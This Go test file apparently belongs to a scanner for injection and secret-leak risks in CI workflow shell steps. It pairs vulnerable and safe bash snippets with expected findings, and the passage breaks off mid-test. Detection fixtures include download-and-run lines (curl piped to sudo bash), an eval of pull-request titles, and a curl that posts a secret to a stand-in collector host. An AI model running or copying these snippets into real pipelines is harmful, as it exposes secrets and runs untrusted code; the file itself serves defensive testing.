package pipeline

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// shellTestInput is what the tables below assume: TITLE and HEAD are one line of a
// stranger, BODY has several, SECRET is a secret, and so are the expressions.
func shellTestInput() ShellInput {
	return ShellInput{
		Vars: map[string]ShellSource{
			"TITLE":  {Labels: ShellUntrusted | ShellBlank, Text: "the title of the pull request"},
			"HEAD":   {Labels: ShellUntrusted | ShellRef, Text: "the head branch"},
			"SHA":    {Labels: ShellRef, Text: "the head commit"},
			"BODY":   {Labels: ShellUntrusted | ShellNewline | ShellBlank, Text: "the body of the pull request"},
			"SECRET": {Labels: ShellSecret, Text: "the secret TOKEN"},
		},
		Event: ShellSource{Labels: ShellUntrusted, Text: "the event"},
		Expr: func(body string) ShellSource {
			switch body {
			case "github.event.pull_request.title", "github.head_ref":
				return ShellSource{Labels: ShellUntrusted, Text: body}
			case "github.event.pull_request.body":
				return ShellSource{Labels: ShellUntrusted | ShellNewline, Text: body}
			case "github.event.pull_request.head.sha":
				return ShellSource{Labels: ShellRef, Text: body}
			case "secrets.TOKEN":
				return ShellSource{Labels: ShellSecret, Text: body}
			}
			return ShellSource{}
		},
	}
}

// shellFactText writes a fact for the tables: kind, sink and name, then its marks.
func shellFactText(f ShellFact) string {
	s := string(f.Kind)
	for _, p := range []string{f.Sink, f.Name} {
		if p != "" {
			s += " | " + p
		}
	}
	if f.Smuggle {
		s += " +smuggle"
	}
	if f.Unmasked {
		s += " +unmasked"
	}
	if f.Verified {
		s += " +verified"
	}
	if f.Labels&ShellUntrusted != 0 {
		s += " +untrusted"
	}
	return s
}

// shellPairs are scripts that must give a fact, each beside one that must not give
// any of that kind.
var shellPairs = []struct {
	name, bad, want, good string
}{
	// Templates.
	{"template bare", `echo ${{ github.head_ref }}`, "template | bash | github.head_ref +untrusted", `echo ${{ github.sha }}`},
	{"template double", `echo "${{ github.event.pull_request.title }}"`, "template | bash | github.event.pull_request.title +untrusted", `echo "$TITLE"`},
	{"template single", `echo '${{ github.event.pull_request.title }}'`, "template | bash | github.event.pull_request.title +untrusted", `echo '$TITLE'`},
	{"template in substitution", "x=$(echo \"`echo ${{ github.head_ref }}`\")", "template | bash | github.head_ref +untrusted", "x=$(echo ${{ github.run_id }})"},
	{"template heredoc", "cat <<EOF > x\n${{ github.event.pull_request.body }}\nEOF\n", "template | bash | github.event.pull_request.body +untrusted", "cat <<EOF > x\n$BODY\nEOF\n"},

	// Code.
	{"eval", `eval "echo $TITLE"`, "code | eval | TITLE +untrusted", `eval "echo $OTHER"`},
	{"eval through a variable", "cmd=\"git log $HEAD\"\neval $cmd", "code | eval | HEAD +untrusted", "cmd='git log'\neval $cmd"},
	{"bash -c", `bash -c "echo $TITLE"`, "code | bash -c | TITLE +untrusted", `bash -c 'echo "$1"' _ "$TITLE"`},
	{"sh -ec behind sudo", `sudo -E sh -ec "make $TITLE"`, "code | sh -c | TITLE +untrusted", `sudo -E sh -ec "make all"`},
	{"nested script", `bash -c 'eval "$TITLE"'`, "code | eval | TITLE +untrusted", `bash -c 'echo "$TITLE"'`},
	{"nested argument", `bash -c 'eval "$1"' _ "$TITLE"`, "code | eval | TITLE +untrusted", `bash -c 'eval "$1"' _ ok`},
	{"source", `source "$TITLE"`, "code | script path | TITLE +untrusted", `source /etc/os-release`},
	{"xargs sh", `echo "$BODY" | xargs -I{} sh -c 'echo {}'`, "code | sh -c | BODY +untrusted", `echo "$BODY" | xargs -I{} echo {}`},
	{"ssh", `ssh -i key -p 22 host "deploy $HEAD"`, "code | ssh | HEAD +untrusted", `ssh -i key host "deploy"`},
	{"docker sh -c", `docker run --rm img sh -c "build $HEAD"`, "code | sh -c | HEAD +untrusted", `docker run --rm -e HEAD img sh -c 'build "$HEAD"'`},
	{"awk", `awk "/$TITLE/ {print}" f`, "code | awk | TITLE +untrusted", `awk -v t="$TITLE" '$0 == t' f`},
	{"sed", `sed -i "s/x/$TITLE/" f`, "code | sed | TITLE +untrusted", `sed -i "s/x/y/" "$FILE"`},
	{"python -c", `python3 -c "print('$TITLE')"`, "code | python3 -c | TITLE +untrusted", `python3 -c 'import os; print(os.environ["TITLE"])'`},
	{"node -e", `node -e "f('$TITLE')"`, "code | node -e | TITLE +untrusted", `node -e "f(process.env.TITLE)"`},
	{"perl -ne", `perl -ne "print if /$TITLE/" f`, "code | perl -e | TITLE +untrusted", `perl -ne 'print if /x/' f`},
	{"ruby -e", `ruby -e "puts '$TITLE'"`, "code | ruby -e | TITLE +untrusted", `ruby -e "puts ENV['TITLE']"`},
	{"jq program", `jq ".title = \"$TITLE\"" f.json`, "code | jq | TITLE +untrusted", `jq --arg t "$TITLE" '.title = $t' f.json`},
	{"heredoc to python", "python3 - <<EOF\nprint('$TITLE')\nEOF\n", "code | python3 | TITLE +untrusted", "python3 - <<'EOF'\nprint('$TITLE')\nEOF\n"},
	{"heredoc to bash", "bash <<EOF\necho $TITLE\nEOF\n", "code | bash | TITLE +untrusted", "bash <<'EOF'\necho \"$TITLE\"\nEOF\n"},
	{"eval in a quoted heredoc", "bash <<'EOF'\neval \"$TITLE\"\nEOF\n", "code | eval | TITLE +untrusted", "cat <<'EOF'\neval \"$TITLE\"\nEOF\n"},
	{"envsubst to sh", `echo "$BODY" | envsubst | sh`, "code | sh | BODY +untrusted", `echo "$BODY" | envsubst | cat`},
	{"file, then run", "cat > run.sh <<EOF\necho $TITLE\nEOF\nbash run.sh", "code | script file | TITLE +untrusted", "cat > run.txt <<EOF\necho $TITLE\nEOF\ncat run.txt"},
	{"command name", `$TITLE --version`, "code | command name | TITLE +untrusted", `echo $TITLE`},
	{"export a list", `export $(cat <<< "$BODY")`, "code | export | BODY +untrusted", `export T="$BODY"`},
	{"make variable", `make build VERSION="$HEAD"`, "code | make | HEAD +untrusted", `VERSION="$HEAD" make build`},
	{"trap", `trap "rm -f $TITLE" EXIT`, "code | trap | TITLE +untrusted", `trap 'rm -f "$TITLE"' EXIT`},
	{"nix-shell --run", `nix-shell --run "build $HEAD"`, "code | nix-shell --run | HEAD +untrusted", `nix-shell --run 'build "$HEAD"'`},
	{"process substitution", `bash <(echo "$BODY")`, "code | script file | BODY +untrusted", `cat <(echo "$BODY")`},
	{"function argument", "run() { eval \"$1\"; }\nrun \"$TITLE\"", "code | eval | TITLE +untrusted", "run() { eval \"$1\"; }\nrun make"},
	{"function output", "get() { echo \"$TITLE\"; }\nx=$(get)\neval \"$x\"", "code | eval | TITLE +untrusted", "get() { echo \"$TITLE\" >&2; echo ok; }\nx=$(get)\neval \"$x\""},
	{"function that runs its arguments", "retry() { \"$@\" || \"$@\"; }\nretry bash -c \"echo $TITLE\"", "code | bash -c | TITLE +untrusted", "retry() { $* || $*; }\nretry echo \"$TITLE\""},
	{"read", "read -r x <<< \"$TITLE\"\neval \"$x\"", "code | eval | TITLE +untrusted", "read -r x <<< ok\neval \"$x\""},
	{"mapfile", "mapfile -t xs <<< \"$BODY\"\nfor x in \"${xs[@]}\"; do eval \"$x\"; done", "code | eval | BODY +untrusted", "mapfile -t xs <<< \"$OTHER\"\nfor x in \"${xs[@]}\"; do eval \"$x\"; done"},
	{"while read", "echo \"$BODY\" | while read -r l; do eval \"$l\"; done", "code | eval | BODY +untrusted", "echo \"$BODY\" | while read -r l; do echo \"$l\"; done"},
	{"default", `x=${TITLE:-none}; eval "$x"`, "code | eval | TITLE +untrusted", `x=${OTHER:-none}; eval "$x"`},
	{"branch joins", "x=a\nif [ -n \"$Y\" ]; then x=$TITLE; fi\neval \"$x\"", "code | eval | TITLE +untrusted", "x=$TITLE\nx=a\neval \"$x\""},
	{"loop carries", "y=a\nfor i in 1 2; do eval \"$y\"; y=$TITLE; done", "code | eval | TITLE +untrusted", "y=a\nfor i in 1 2; do eval \"$y\"; z=$TITLE; done"},
	{"printf -v", `printf -v x 'echo %s' "$TITLE"; eval "$x"`, "code | eval | TITLE +untrusted", `printf -v x 'echo %q' "$TITLE"; eval "$x"`},
	{"event file", `t=$(jq -r .pull_request.title "$GITHUB_EVENT_PATH"); eval "echo $t"`, "code | eval | event file +untrusted", `n=$(jq -r .pull_request.number "$GITHUB_EVENT_PATH"); eval "echo $n"`},
	{"gh pr view", `t=$(gh pr view 1 --json title -q .title); bash -c "echo $t"`, "code | bash -c | gh pr +untrusted", `t=$(gh pr view 1 --json number -q .number); bash -c "echo $t"`},
	{"gh api", `t=$(gh api repos/o/r/issues/1 --jq .body); bash -c "echo $t"`, "code | bash -c | gh api +untrusted", `t=$(gh api repos/o/r/releases/latest --jq .tag_name); bash -c "echo $t"`},
	{"env command", `env X="$TITLE" bash -c 'eval "$X"'`, "code | eval | TITLE +untrusted", `env X=ok bash -c 'eval "$X"'`},
	{"git log", `git checkout "$SHA"; x=$(git log -1 --format=%s); eval "echo $x"`, "code | eval | git log +untrusted", `git checkout "$SHA"; x=$(git log -1 --format=%ct-%h); eval "echo $x"`},
	{"find -exec sh", `git fetch origin pull/1/head && git checkout FETCH_HEAD && find . -name '*.md' -exec sh -c 'wc {}' \;`, "code | sh -c | file names +untrusted", `find . -name '*.md' -exec sh -c 'wc {}' \;`},

	// Checks and filters.
	{"regex check", "[[ $TITLE =~ ^[0-9]+ ]] || exit 1\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "[[ $TITLE =~ ^[0-9]+$ ]] || exit 1\neval \"$TITLE\""},
	{"regex in a variable", "re='^.*$'\nif ! [[ \"$TITLE\" =~ $re ]]; then exit 1; fi\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "re='^[a-z0-9._-]+$'\nif ! [[ \"$TITLE\" =~ $re ]]; then exit 1; fi\neval \"$TITLE\""},
	{"alternation escapes the anchors", "[[ $TITLE =~ ^a|b$ ]] || exit 1\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "[[ $TITLE =~ ^(a|b)$ ]] || exit 1\neval \"$TITLE\""},
	{"check without exit", "[[ $TITLE =~ ^[0-9]+$ ]] || echo bad\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "[[ $TITLE =~ ^[0-9]+$ ]] || { echo bad; exit 1; }\neval \"$TITLE\""},
	{"case", "case \"$TITLE\" in a*) ;; *) exit 1;; esac\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "case \"$TITLE\" in dev|prod) ;; *) exit 1;; esac\neval \"$TITLE\""},
	{"case rejects", "case \"$TITLE\" in *\\;*) exit 1;; esac\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "case \"$TITLE\" in *[!a-z0-9]*) exit 1;; esac\neval \"$TITLE\""},
	{"equality", "if [ \"$TITLE\" != main ]; then echo no; fi\neval \"$TITLE\"", "code | eval | TITLE +untrusted", "if [ \"$TITLE\" = main ]; then eval \"$TITLE\"; fi"},
	{"or of equalities", "if [[ $TITLE == a || -n $X ]]; then eval \"$TITLE\"; fi", "code | eval | TITLE +untrusted", "if [[ $TITLE == a || $TITLE == b ]]; then eval \"$TITLE\"; fi"},
	{"line-wise check of several lines", "echo \"$BODY\" | grep -qE '^[0-9]+$' || exit 1\neval \"$BODY\"", "code | eval | BODY +untrusted", "echo \"$TITLE\" | grep -qE '^[0-9]+$' || exit 1\neval \"$TITLE\""},
	{"replace", "x=${TITLE//;/}\neval \"$x\"", "code | eval | TITLE +untrusted", "x=${TITLE//[^a-zA-Z0-9]/}\neval \"$x\""},
	{"quote operator", "x=${TITLE@U}\neval \"$x\"", "code | eval | TITLE +untrusted", "x=${TITLE@Q}\neval \"echo $x\""},
	{"tr", "x=$(echo \"$TITLE\" | tr -d ';')\neval \"$x\"", "code | eval | TITLE +untrusted", "x=$(echo \"$TITLE\" | tr -cd 'a-z0-9-')\neval \"$x\""},
	{"sed strips", "x=$(echo \"$TITLE\" | sed 's/ /-/g')\neval \"$x\"", "code | eval | TITLE +untrusted", "x=$(echo \"$TITLE\" | sed 's/[^a-z0-9]/-/g')\neval \"$x\""},
	{"grep -o", "x=$(echo \"$TITLE\" | grep -oE '.+')\neval \"$x\"", "code | eval | TITLE +untrusted", "x=$(echo \"$TITLE\" | grep -oE '[0-9]+')\neval \"$x\""},
	{"length", "x=${TITLE#a}\neval \"$x\"", "code | eval | TITLE +untrusted", "x=${#TITLE}\neval \"$x\""},

	// Arguments.
	{"unquoted git", `git log $HEAD`, "argument | git | HEAD +untrusted", `git log -- "$HEAD"`},
	{"prefix and one word", `git checkout -B x "origin/$TITLE" $HEAD`, "argument | git | HEAD +untrusted", `git checkout -B x origin/$HEAD`},
	{"prefix and several words", `git log origin/$TITLE`, "argument | git | TITLE +untrusted", `git push origin cherry-$HEAD; gh pr list --base $HEAD --head "$TITLE"`},
	{"variable of jq", `x=$(echo '[]' | jq -r --arg t "$TITLE" '.[] | "\(.id) " + $t'); git log $x`, "argument | git | TITLE +untrusted",
		`x=$(echo '[]' | jq -r --arg t "$TITLE" '[.[] | select(.branch == $t) | .databaseId] | .[]'); git log $x`},
	{"head of a pull request", `h=$(gh api repos/o/r/pulls/1 --jq .title); git log a/$h`, "argument | git | gh api +untrusted", `h=$(gh api repos/o/r/pulls/1 --jq .head.ref); git log a/$h`},
	{"one field", `x=$(echo "$TITLE" | awk '{print $1 $2}'); git log a/$x`, "argument | git | TITLE +untrusted", `x=$(echo "$TITLE" | awk '{print $2}'); git log a/$x`},
	{"leading dash", `gh pr view "$HEAD"`, "argument | gh | HEAD +untrusted", `gh pr create --title "$TITLE"`},
	{"curl", `curl $TITLE`, "argument | curl | TITLE +untrusted", `curl "https://example.com/$TITLE"`},
	{"jq", `jq -n $TITLE`, "argument | jq | TITLE +untrusted", `jq -n --arg t "$TITLE" '$t'`},
	{"xargs", `echo "$BODY" | xargs git add`, "argument | git | BODY +untrusted", `echo "$BODY" | xargs echo`},

	// Arithmetic.
	{"numeric test", `[[ $TITLE -eq 1 ]]`, "arithmetic | arithmetic | TITLE +untrusted", `[[ $TITLE == 1 ]]`},
	{"bracket is no arithmetic", `((TITLE > 1))`, "arithmetic | arithmetic | TITLE +untrusted", `[ "$TITLE" -eq 1 ]`},
	{"expansion", `x=$(( TITLE + 1 ))`, "arithmetic | arithmetic | TITLE +untrusted", `x=$(( OTHER + 1 ))`},
	{"subscript", `echo "${arr[$TITLE]}"`, "arithmetic | arithmetic | TITLE +untrusted", "declare -A arr\necho \"${arr[$TITLE]}\""},
	{"slice", `echo "${X:$TITLE:1}"`, "arithmetic | arithmetic | TITLE +untrusted", `echo "${TITLE:0:10}"`},
	{"let", `let x=TITLE+1`, "arithmetic | arithmetic | TITLE +untrusted", `let x=OTHER+1`},
	{"test -v", `test -v "$TITLE"`, "arithmetic | arithmetic | TITLE +untrusted", `test -n "$TITLE"`},

	// Channels.
	{"env with line breaks", `echo "BODY=$BODY" >> "$GITHUB_ENV"`, "channel | GITHUB_ENV | BODY +smuggle +untrusted", `echo "BODY=$OTHER" >> /dev/null`},
	{"own name", `echo "$TITLE" >> $GITHUB_ENV`, "channel | GITHUB_ENV +smuggle +untrusted", `echo "$TITLE"`},
	{"fixed delimiter", "{ echo 'B<<EOF'; echo \"$BODY\"; echo EOF; } >> $GITHUB_ENV", "channel | GITHUB_ENV | B +smuggle +untrusted", "echo x"},
	{"tee", `echo "t=$BODY" | tee -a "$GITHUB_OUTPUT"`, "channel | GITHUB_OUTPUT | t +smuggle +untrusted", `echo "t=$BODY" | tee -a log.txt`},
	{"heredoc", "cat >> $GITHUB_OUTPUT <<END\na=1\nb=$BODY\nEND\n", "channel | GITHUB_OUTPUT | b +smuggle +untrusted", "cat >> log <<END\nb=$BODY\nEND\n"},
	{"path in a variable", "out=$GITHUB_ENV\necho \"x=$BODY\" >> \"$out\"", "channel | GITHUB_ENV | x +smuggle +untrusted", "out=x.txt\necho \"x=$BODY\" >> \"$out\""},
	{"path", `echo "$TITLE/bin" >> $GITHUB_PATH`, "channel | GITHUB_PATH +smuggle +untrusted", `echo "$TITLE/bin"`},
	{"printf", `printf 'a=%s\nb=%s\n' x "$BODY" >> "$GITHUB_OUTPUT"`, "channel | GITHUB_OUTPUT | b +smuggle +untrusted", `printf 'a=%s\n' x`},
	{"command", `echo "::set-output name=t::$TITLE"`, "channel | GITHUB_OUTPUT | t +untrusted", `echo "::notice::$TITLE"`},
	{"set-env", `echo "::set-env name=T::$TITLE"`, "channel | GITHUB_ENV | T +untrusted", `echo "::warning::$TITLE"`},
	{"echo -e", `echo -e "t=$TITLE" >> $GITHUB_OUTPUT`, "channel | GITHUB_OUTPUT | t +smuggle +untrusted", `echo -e "t=$TITLE"`},

	// Code of the workspace.
	{"npm ci", `npm ci`, "execute | workspace", `npm ci --ignore-scripts`},
	{"script", `./build.sh --all`, "execute | workspace | build.sh", `/usr/bin/true`},
	{"bash script", `bash scripts/x.sh`, "execute | workspace | scripts/x.sh", `bash -c 'true'`},
	{"syntax check", `bash x.sh`, "execute | workspace | x.sh", `bash -n x.sh`},
	{"other folder", `cd sub && make`, "execute | workspace", `cd /tmp/x && make`},
	{"cloned", `make`, "execute | workspace", "git clone https://example.com/x.git\ncd x\nmake"},
	{"pip .", `pip install .`, "execute | workspace", `pip install requests==1.0`},
	{"python -m pytest", `python -m pytest -q`, "execute | workspace", `python --version`},
	{"gradlew", `./gradlew build`, "execute | workspace | gradlew", `gradle --version`},
	{"docker build", `docker buildx build .`, "execute | workspace", `docker login`},
	{"poetry run", `poetry run pytest`, "execute | workspace", `poetry --version`},
	{"terraform", `terraform plan`, "execute | workspace", `terraform fmt`},
	{"go test", `go test ./...`, "execute | workspace", `go build ./...`},
	{"npx", `npx eslint .`, "execute | workspace", `npx --version`},
	{"yarn", `yarn build`, "execute | workspace", `yarn config set x y`},

	// Downloads and tools.
	{"curl to sh", `curl -fsSL https://example.com/i.sh | sudo bash -s -- -y`, "download-run | bash | https://example.com/i.sh", `curl -fsSL https://example.com/i.sh -o i.sh`},
	{"wget -O-", `wget -qO- https://example.com/i.sh | sh`, "download-run | sh | https://example.com/i.sh", `wget -q https://example.com/i.tgz`},
	{"bash <(curl)", `bash <(curl -s https://example.com/i.sh)`, "download-run | bash | https://example.com/i.sh", `diff <(curl -s https://example.com/a) b`},
	{"sh -c curl", `sh -c "$(curl -fsSL https://example.com/i.sh)"`, "download-run | sh -c | https://example.com/i.sh", `x="$(curl -fsSL https://example.com/v)"`},
	{"file, then run", "curl -sLo i.sh https://example.com/i.sh\nchmod +x i.sh\n./i.sh", "download-run | i.sh | https://example.com/i.sh", "curl -sLo data.json https://example.com/x\njq . data.json"},
	{"python", `curl -s https://example.com/p.py | python3 -`, "download-run | python3 | https://example.com/p.py", `curl -s https://example.com/p.json | python3 -m json.tool`},
	{"pip", `pip install flake8 black==24.1.0`, "unpinned-install | pip | flake8", `pip install -r requirements.txt black==24.1.0`},
	{"npm -g", `npm install -g typescript`, "unpinned-install | npm | typescript", `npm install -g typescript@5.4.2`},
	{"go install", `go install example.com/x/cmd/y@latest`, "unpinned-install | go | example.com/x/cmd/y@latest", `go install example.com/x/cmd/y@v1.2.3`},
	{"cargo", `cargo install cross`, "unpinned-install | cargo | cross", `cargo install cross --version 0.2.5`},
	{"gem", `gem install bundler`, "unpinned-install | gem | bundler", `gem install bundler -v 2.5.0`},
	{"npx of another package", `npx -y cowsay hi`, "unpinned-install | npx | cowsay", `npx -y cowsay@1.5.0 hi`},
	{"uv tool", `uv tool install ruff`, "unpinned-install | uv | ruff", `uv tool install ruff==0.4.0`},

	// Secrets.
	{"log of another form", `echo "$SECRET" | base64`, "secret | encoded | SECRET", `echo "$OTHER" | base64`},
	{"encoded to the log", "x=$(echo -n \"$SECRET\" | base64)\necho \"$x\"", "secret | log | SECRET +unmasked", "x=$(echo -n \"$SECRET\" | base64)\necho \"::add-mask::$x\""},
	{"file", `echo "$SECRET" > key.pem`, "secret | file | key.pem", `echo "$OTHER" > key.pem`},
	{"command line", `docker login -u x -p "$SECRET"`, "secret | command line | SECRET", `echo "$SECRET" | docker login -u x --password-stdin`},
	{"network", `curl -d "k=$SECRET" https://collect.example.com/`, "secret | network | collect.example.com", `curl https://collect.example.com/`},
	{"set -x", "set -x\ncurl -H \"A: $SECRET\" https://api.github.com/x", "secret | trace | SECRET", "set -x\nls"},
	{"output", `echo "k=${SECRET:0:4}" >> $GITHUB_OUTPUT`, "secret | channel | GITHUB_OUTPUT k +unmasked", `echo "k=v" >> $GITHUB_OUTPUT`},
	{"expression", `curl -u "x:${{ secrets.TOKEN }}" https://example.com`, "secret | network | example.com", `curl -u "x:${{ github.actor }}" https://example.com`},

	// Git.
	{"fetch of a pull request", `git fetch origin pull/7/head:pr`, "checkout | fetch", `git fetch origin main`},
	{"checkout of it", "git fetch origin pull/7/head:pr\ngit checkout pr", "checkout | workspace", "git checkout main"},
	{"head commit", `git checkout "$SHA"`, "checkout | workspace | SHA", `git checkout "$GITHUB_SHA"`},
	{"head commit pasted", `git checkout ${{ github.event.pull_request.head.sha }}`, "checkout | workspace | github.event.pull_request.head.sha", `git checkout ${{ github.sha }}`},
	{"gh pr checkout", `gh pr checkout 7`, "checkout | workspace", `gh pr comment 7 --body hi`},
	{"safe.directory", `git config --global --add safe.directory '*'`, "git-config | safe.directory", `git config --global --add safe.directory "$PWD"`},
	{"insteadOf", `git config --global url."https://x:${SECRET}@github.com/".insteadOf "https://github.com/"`, "git-config | url.https://github.com/.insteadOf", `git config --global user.name x`},
	{"push", `git push "https://x:$SECRET@github.com/o/r" main`, "git-push | https://github.com/o/r", `git fetch`},
	{"interpreter", `python3 -c 'print(1)'`, "interpreter | python3", `python3 --version`},
	{"mask", `echo "::add-mask::$OTHER"`, "mask | OTHER", `echo "::group::x"`},
}

func TestShellPairs(t *testing.T) {
	for _, p := range shellPairs {
		t.Run(p.name, func(t *testing.T) {
			kind, _, _ := strings.Cut(p.want, " |")
			bad := AnalyseScript(p.bad, "bash", shellTestInput())
			if !bad.Parsed {
				t.Fatalf("bad does not parse: %s", bad.Problem)
			}
			var got []string
			for _, f := range bad.Facts {
				got = append(got, shellFactText(f))
				if f.Start < 0 || f.End > int64(len(p.bad)) || f.Start >= f.End {
					t.Errorf("%s: span %v", shellFactText(f), f.Span)
				}
			}
			if !slices.Contains(got, p.want) {
				t.Errorf("bad:\n%s\ngave %q, want %q", p.bad, got, p.want)
			}
			good := AnalyseScript(p.good, "bash", shellTestInput())
			if !good.Parsed {
				t.Fatalf("good does not parse: %s", good.Problem)
			}
			for _, f := range good.Facts {
				if string(f.Kind) != kind || kind == "channel" && f.Labels&ShellUntrusted == 0 || kind == "secret" && !strings.Contains(p.want, f.Sink) {
					continue
				}
				t.Errorf("good:\n%s\ngave %q", p.good, shellFactText(f))
			}
		})
	}
}

// TestShellSubOptions tells apart what an option can do to sub-commands.
func TestShellSubOptions(t *testing.T) {
	for _, c := range []struct{ script, want string }{
		{`gh api repos/o/r/issues/$TITLE/comments`, "gh api"},
		{`gh api "repos/o/r/issues/$TITLE/comments"`, ""}, // no word of its own
		{`gh api "$TITLE"`, "mild gh api"},                // one word is an option without an endpoint
		{`gh issue comment $TITLE --body "$MESSAGE"`, "mild gh issue comment"},
		{`gh issue comment $TITLE`, "gh issue comment"},
		{`gh -R o/r pr comment $TITLE --body-file x.md`, "gh pr comment"},
		{`gh pr view $TITLE`, "mild gh pr view"},
		{`gh pr create --fill $TITLE`, "gh pr create"},
		{`gh run download $TITLE`, "gh run download"},
		{`git -C sub fetch origin $TITLE`, "git fetch"},
		{`git -c a.b=c checkout $TITLE`, "mild git checkout"},
		{`git $TITLE status`, "git -"},
		{`git log "$TITLE"`, "git log"},
		{`git rev-parse $TITLE`, "mild git rev-parse"},
		{`git config user.name $TITLE`, "git config"},
		{`git config user.name "$TITLE"`, "mild git config"},
		{`glab api projects/1/issues/$TITLE`, "glab api"},
		{`glab mr list $TITLE`, "mild glab mr list"},
	} {
		got := ""
		for _, f := range AnalyseScript(c.script, "bash", shellTestInput()).Facts {
			if f.Kind == FactArgument {
				if got != "" {
					t.Errorf("%s: two facts", c.script)
				}
				if got = f.Command; f.Mild {
					got = "mild " + got
				}
			}
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", c.script, got, c.want)
		}
	}
}

// TestShellArguments follows what a script is given, and what it gives to others.
func TestShellArguments(t *testing.T) {
	in := shellTestInput()
	in.Args = []ShellSource{{Text: "argument 1"}, {Labels: ShellUntrusted | ShellBlank, Text: "argument 2"}}
	in.Name = "ci/run.sh"
	in.Calls = []ShellCall{{Name: "f", Args: []ShellSource{{Labels: ShellUntrusted, Text: "argument 1"}}}, {Name: "none"}}
	for _, c := range []struct{ script, want string }{
		{`eval "$2"`, "code | eval | argument 2 +untrusted"},
		{`eval "$1"`, ""},
		{`shift; eval "$1"`, "code | eval | argument 2 +untrusted"},
		{`shift 2; eval "$1"`, ""},
		{`if true; then shift; fi; eval "$1"`, "code | eval | argument 2 +untrusted"},
		{`for a in "$@"; do eval "$a"; done`, "code | eval | argument 2 +untrusted"},
		{`f() { eval "$1"; }; g() { eval "$1"; }`, "code | eval | argument 1 +untrusted"},
		{`. "$(dirname "$0")/lib.sh"`, "execute | workspace | ci/lib.sh"},
		{`. "${0%/*}/../lib.sh"`, "execute | workspace | lib.sh"},
		{`cd "$(dirname "${BASH_SOURCE[0]}")"; D=$(pwd); "$D/x.sh"`, "execute | workspace | ci/x.sh"},
	} {
		got := ""
		for _, f := range AnalyseScript(c.script, "bash", in).Facts {
			got += shellFactText(f)
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", c.script, got, c.want)
		}
	}
	for script, want := range map[string]string{
		`./x.sh a "$TITLE" "$SHA"`:            "execute x.sh: [{0 } {257 TITLE} {0 }]",
		`bash -e x.sh "$HEAD"`:                "execute x.sh: [{17 HEAD}]",
		`./x.sh "$OTHER"`:                     "execute x.sh: []",
		"source lib.sh\nsay hi \"$TITLE\"":    "execute lib.sh: [], call : [{0 } {257 TITLE}]",
		"say hi \"$TITLE\"":                   "",
		"source lib.sh\nsay \"$SHA\"":         "execute lib.sh: []",
		"source lib.sh\n./y.sh && say \"$1\"": "execute lib.sh: [], execute y.sh: []",
	} {
		var got []string
		for _, f := range AnalyseScript(script, "bash", shellTestInput()).Facts {
			got = append(got, fmt.Sprintf("%s %s: %v", f.Kind, f.Name, f.Args))
		}
		if s := strings.Join(got, ", "); s != want {
			t.Errorf("%s: %q, want %q", script, s, want)
		}
	}
}

// TestShellChannels shows what is told apart inside one kind.
func TestShellChannels(t *testing.T) {
	for _, c := range []struct{ script, want string }{
		{`echo "T=$TITLE" >> $GITHUB_ENV`, "channel | GITHUB_ENV | T +untrusted"},
		{`echo T=$BODY >> $GITHUB_ENV`, "channel | GITHUB_ENV | T +untrusted"}, // splitting takes the line breaks
		{"d=$(openssl rand -hex 8)\n{ echo \"B<<$d\"; echo \"$BODY\"; echo \"$d\"; } >> $GITHUB_ENV", "channel | GITHUB_ENV | B +untrusted"},
		{"echo \"x=$(head -n1 <<< \"$BODY\")\" >> $GITHUB_ENV", "channel | GITHUB_ENV | x +untrusted"},
		{`echo "n=${BODY//[^0-9]/}" >> $GITHUB_ENV`, "channel | GITHUB_ENV | n"},
		{`gh pr view 1 --json number --jq '"number=\(.number)"' >> $GITHUB_OUTPUT`, "channel | GITHUB_OUTPUT | number"},
		{`jq -c '"x=\(.pull_request.title)"' -r "$GITHUB_EVENT_PATH" >> $GITHUB_OUTPUT`, "channel | GITHUB_OUTPUT | x +untrusted"},
		{`echo "a=$OTHER" >> $GITHUB_STATE`, "channel | GITHUB_STATE | a"},
		{`echo "$BODY" >> $GITHUB_STEP_SUMMARY`, "channel | GITHUB_STEP_SUMMARY +untrusted"},
	} {
		res := AnalyseScript(c.script, "", shellTestInput())
		var got []string
		for _, f := range res.Facts {
			if f.Kind == FactChannel {
				got = append(got, shellFactText(f))
			}
		}
		if d := cmp.Diff([]string{c.want}, got); d != "" {
			t.Errorf("%s (-want +got):\n%s", c.script, d)
		}
	}
}

func TestShellWorkspace(t *testing.T) {
	in := ShellInput{Workspace: ShellSource{Labels: ShellWorkspace, Text: "the head of the pull request"}}
	res := AnalyseScript("npm ci\nv=$(jq -r .version package.json)\neval \"echo $v\"\necho \"$PWD/bin\" >> $GITHUB_PATH\n", "bash", in)
	want := []string{
		"execute | workspace +untrusted",
		"code | eval | package.json +untrusted",
		"channel | GITHUB_PATH",
	}
	var got []string
	for _, f := range res.Facts {
		got = append(got, shellFactText(f))
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if !res.Untrusted {
		t.Error("the workspace is not said to be untrusted")
	}
	// A checkout in the script makes what comes after it dangerous, not what was before.
	res = AnalyseScript("make lint\ngit fetch origin pull/1/head\ngit checkout FETCH_HEAD\nmake test\n", "bash", ShellInput{})
	var marks []bool
	for _, f := range res.Facts {
		if f.Kind == FactExecute {
			marks = append(marks, f.Labels&ShellWorkspace != 0)
		}
	}
	if d := cmp.Diff([]bool{false, true}, marks); d != "" {
		t.Errorf("untrusted before and after (-want +got):\n%s", d)
	}
	// Only the folder that a download filled.
	in = ShellInput{Dirs: map[string]ShellSource{"artifact": {Labels: ShellUntrusted}}}
	res = AnalyseScript("./a.sh\nsh artifact/run.sh\n", "bash", in)
	marks = nil
	for _, f := range res.Facts {
		marks = append(marks, f.Labels&ShellWorkspace != 0)
	}
	if d := cmp.Diff([]bool{false, true}, marks); d != "" {
		t.Errorf("folders (-want +got):\n%s", d)
	}
}

func TestShellVerified(t *testing.T) {
	get := "curl -sLo i.sh https://example.com/i.sh\n"
	for script, want := range map[string]bool{
		get + "bash i.sh": false,
		get + "echo \"abc  i.sh\" | sha256sum -c -\nbash i.sh": true,
		"sha256sum other\n" + get + "bash i.sh":                false,
	} {
		res := AnalyseScript(script, "bash", ShellInput{})
